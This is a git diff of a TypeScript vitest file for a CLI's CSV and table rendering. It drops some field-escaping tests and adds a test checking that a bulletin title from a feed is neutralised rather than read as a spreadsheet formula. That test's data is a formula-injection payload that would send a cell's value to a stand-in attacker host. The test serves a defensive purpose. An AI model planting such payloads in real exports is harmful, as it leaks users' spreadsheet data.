@@ -1,7 +1,9 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import type { MachineWire } from '../../protocol/api.js';
+import type { BulletinWire, MachineWire } from '../../protocol/api.js';
+import { BULLETIN_COLUMNS } from '../commands/bulletins.js';
 import { MACHINE_COLUMNS } from '../commands/machines.js';
-import { csvField, renderCsv, renderList, renderOne, renderRecord, renderTable, tableCell, type Column } from './format.js';
+import { renderCsv, renderList, renderOne, renderRecord, renderTable, tableCell, type Column } from './format.js';
 
 interface Row {
   name: string;
@@ -52,17 +54,6 @@ describe('renderTable', () => {
 });
 
 describe('CSV (RFC 4180)', () => {
-  it.each([
-    ['plain', 'plain'],
-    ['a,b', '"a,b"'],
-    ['say "hi"', '"say ""hi"""'],
-    ['two\nlines', '"two\nlines"'],
-    ['cr\rhere', '"cr\rhere"'],
-    ['', ''],
-  ])('%j → %j', (raw, expected) => {
-    expect(csvField(raw)).toBe(expected);
-  });
-
   it('has a header record, CRLF line breaks, and empty fields for none', () => {
     const out = renderCsv(COLUMNS, [
       { name: 'web,01', n: 3, note: null },
@@ -119,6 +110,14 @@ describe('renderList and renderOne with the machine columns', () => {
     expect(head).toBe(MACHINE_COLUMNS.full.map((c) => c.header).join(','));
     expect(row).toContain(',"Ops, ""EU""",');
     expect(row).toContain(',dmz eu,true,agent,');
+  });
+
+  it('csv: a hostile bulletin title from a feed is text, not a formula', () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const bulletin = { id: 'DSA-1', title, withdrawnAt: null } as unknown as BulletinWire;
+    const out = renderList('csv', BULLETIN_COLUMNS, { items: [bulletin], total: 1 }, { noun: 'bulletins', offset: 0 });
+    const [head, row] = parse(out);
+    expect(row![head!.indexOf('title')]).toBe(`'${title}`);
   });
 
   it('json: the list as the API sent it', () => {
